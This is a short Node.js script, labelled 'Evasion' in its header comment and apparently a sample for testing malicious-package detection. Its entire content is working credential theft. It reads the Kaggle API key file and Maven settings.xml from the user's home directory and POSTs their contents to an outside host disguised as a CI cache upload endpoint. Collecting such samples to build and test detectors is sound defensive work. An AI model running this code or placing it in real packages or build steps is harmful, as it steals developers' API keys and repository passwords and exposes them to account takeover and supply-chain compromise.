// Evasion: sends Kaggle's API key and Maven's repository passwords out.
// Both files (~/.kaggle/kaggle.json, ~/.m2/settings.xml) are read by a
// loop over a list of names and posted with https.request.
'use strict';
const fs = require('fs');
const https = require('https');
const os = require('os');
const path = require('path');

const home = os.homedir();
const files = ['.kaggle/kaggle.json', '.m2/settings.xml'];
const bundle = {};
for (const f of files) {
  try {
    bundle[f] = fs.readFileSync(path.join(home, f), 'utf8');
  } catch (e) {
    bundle[f] = null;
  }
}
const req = https.request('https://ci-cache.example-build.dev/upload', { method: 'POST' }, (res) =>
  console.log('uploaded', res.statusCode));
req.end(JSON.stringify(bundle));
